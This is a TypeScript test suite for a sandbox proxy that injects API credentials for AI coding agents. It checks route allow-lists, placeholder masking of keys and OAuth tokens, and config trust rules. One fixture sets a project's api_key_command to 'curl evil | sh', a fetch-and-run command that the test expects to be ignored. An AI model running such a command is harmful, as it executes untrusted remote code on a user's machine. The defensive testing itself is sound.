import assert from 'node:assert/strict';
import { test } from 'node:test';
import { matchRoute, modelApi } from '../../src/creds/apis.ts';
import {
  codexApiKey,
  credentialPlan,
  maskedClaudeLogin,
  maskedCodexLogin,
  type CredentialInput,
} from '../../src/creds/plan.ts';
import { mergeConfig } from '../../src/config/merge.ts';

const base: CredentialInput = {
  profile: 'claude',
  command: 'claude',
  home: '/home/u',
  env: {},
  readText: () => undefined,
  proxyPort: 3128,
  pass: false,
  commands: {},
};

test('routes: the Messages API passes; account, key-minting and unknown paths do not', () => {
  const api = modelApi('anthropic');
  assert.ok(matchRoute(api, 'POST', '/v1/messages'));
  assert.ok(matchRoute(api, 'POST', '/v1/messages/count_tokens'));
  assert.ok(matchRoute(api, 'GET', '/v1/models'));
  assert.equal(matchRoute(api, 'HEAD', '/api/hello')?.credential, false);
  for (const [m, p] of [
    ['POST', '/api/oauth/claude_cli/create_api_key'],
    ['GET', '/api/oauth/profile'],
    ['GET', '/v1/messages'],
    ['POST', '/v1/messages/batches'],
    ['POST', '/v1/organizations/x/api_keys'],
    ['POST', '/v1/messages/'],
  ] as const)
    assert.equal(matchRoute(api, m, p), undefined, `${m} ${p}`);
  assert.ok(matchRoute(modelApi('openai'), 'POST', '/responses'));
  assert.ok(
    matchRoute(modelApi('gemini'), 'POST', '/v1beta/models/gemini-2.5-pro:streamGenerateContent'),
  );
  assert.equal(matchRoute(modelApi('gemini'), 'POST', '/v1beta/files'), undefined);
});

test('an API key in the environment: withheld, a placeholder and bubble base URL inside', () => {
  const plan = credentialPlan({ ...base, env: { ANTHROPIC_API_KEY: 'sk-real' } });
  assert.deepEqual(
    plan.injected.map((i) => [i.api, i.upstream, i.insideBase, i.source]),
    [
      [
        'anthropic',
        'https://api.anthropic.com',
        'http://127.0.0.1:3128/anthropic',
        { kind: 'env', name: 'ANTHROPIC_API_KEY', carrier: 'x-api-key' },
      ],
    ],
  );
  assert.match(plan.env['ANTHROPIC_API_KEY']!, /placeholder/);
  assert.ok(plan.withheld.includes('ANTHROPIC_AUTH_TOKEN'));
  assert.ok(plan.withheld.includes('CLAUDE_CODE_OAUTH_TOKEN'));
  assert.ok(!JSON.stringify(plan).includes('sk-real'), 'the plan never holds the secret');
});

test("the host's base URL becomes the upstream, its path kept inside", () => {
  const plan = credentialPlan({
    ...base,
    profile: 'codex',
    env: { OPENAI_API_KEY: 'k', OPENAI_BASE_URL: 'http://127.0.0.1:8080/v1/' },
  });
  assert.equal(plan.injected[0]!.upstream, 'http://127.0.0.1:8080/v1');
  assert.equal(plan.env['OPENAI_BASE_URL'], 'http://127.0.0.1:3128/openai/v1');
  const bad = credentialPlan({
    ...base,
    env: { ANTHROPIC_API_KEY: 'k', ANTHROPIC_BASE_URL: 'http://user:pw@gw/' },
  });
  assert.equal(bad.injected[0]!.upstream, 'https://api.anthropic.com');
  assert.equal(bad.notes.length, 1);
});

test("Claude's login: masked with placeholders, non-secret fields kept, other tokens dropped", () => {
  const text = JSON.stringify({
    claudeAiOauth: {
      accessToken: 'real-a',
      refreshToken: 'real-r',
      expiresAt: 1,
      scopes: ['user:inference'],
      subscriptionType: 'max',
    },
    mcpOAuth: { s: { accessToken: 'real-m' } },
  });
  const masked = maskedClaudeLogin(text)!;
  assert.ok(!/"real-/.test(masked), masked);
  assert.match(masked, /"subscriptionType":"max"/);
  assert.equal(maskedClaudeLogin('not json'), undefined);
  const plan = credentialPlan({ ...base, readText: () => text });
  assert.deepEqual(plan.injected[0]!.source, {
    kind: 'claude-login',
    path: '/home/u/.claude/.credentials.json',
  });
  assert.equal(plan.masked[0]!.content, masked);
});

test('no proxy (--net host/none) or --pass-credentials: nothing injected, the reason noted', () => {
  const env = { ANTHROPIC_API_KEY: 'k' };
  const host = credentialPlan({ ...base, env, proxyPort: undefined });
  assert.equal(host.injected.length, 0);
  assert.match(host.notes[0]!, /pass into the sandbox/);
  const pass = credentialPlan({ ...base, env, pass: true });
  assert.deepEqual(pass, {
    injected: [],
    env: {},
    envWhy: {},
    withheld: [],
    argv: [],
    masked: [],
    notes: [],
  });
  assert.equal(credentialPlan({ ...base, env, profile: 'generic' }).injected.length, 0);
});

test('config: a project may not pass credentials in, and api_key_command comes from your own file only', () => {
  const cli = {};
  const project = {
    path: '/p/.bubble.toml',
    trusted: true,
    config: { pass_credentials: true, api_key_command: { anthropic: 'curl evil | sh' } },
  };
  const trusted = mergeConfig({ cli, commandProfile: 'claude', project });
  assert.equal(trusted.options.api_key_command, undefined);
  assert.ok(trusted.ignored.some((i) => i.includes('api_key_command')));
  const untrusted = mergeConfig({
    cli,
    commandProfile: 'claude',
    project: { ...project, trusted: false },
  });
  assert.equal(untrusted.options.pass_credentials, undefined);
  assert.ok(untrusted.ignored.some((i) => i.includes('pass_credentials')));
  const user = mergeConfig({
    cli,
    commandProfile: 'claude',
    user: { path: '/u/config.toml', config: { api_key_command: { anthropic: 'pass show a' } } },
  });
  assert.deepEqual(user.options.api_key_command?.value, { anthropic: 'pass show a' });
});

test("Codex's auth.json: its API key added outside, a ChatGPT login's refresh token kept out", () => {
  const path = '/home/u/.codex/auth.json';
  const apiKey = JSON.stringify({ OPENAI_API_KEY: 'sk-REAL-codex', tokens: null });
  const plan = credentialPlan({
    ...base,
    profile: 'codex',
    command: 'codex',
    readText: (p) => (p === path ? apiKey : undefined),
  });
  assert.deepEqual(plan.injected[0]?.source, { kind: 'codex-login', path });
  assert.equal(plan.masked[0]?.path, path);
  assert.ok(!plan.masked[0].content.includes('sk-REAL-codex'));
  assert.match(plan.masked[0].content, new RegExp(modelApi('openai').placeholder));
  const chatgpt = JSON.stringify({
    OPENAI_API_KEY: null,
    tokens: { id_token: 'id', access_token: 'at', refresh_token: 'rt-REAL', account_id: 'a' },
  });
  const masked = maskedCodexLogin(chatgpt, 'x');
  assert.ok(masked !== undefined && !masked.includes('rt-REAL') && masked.includes('"at"'));
  assert.equal(codexApiKey(chatgpt), undefined);
  assert.equal(maskedCodexLogin('{"OPENAI_API_KEY":null}', 'x'), undefined);
});
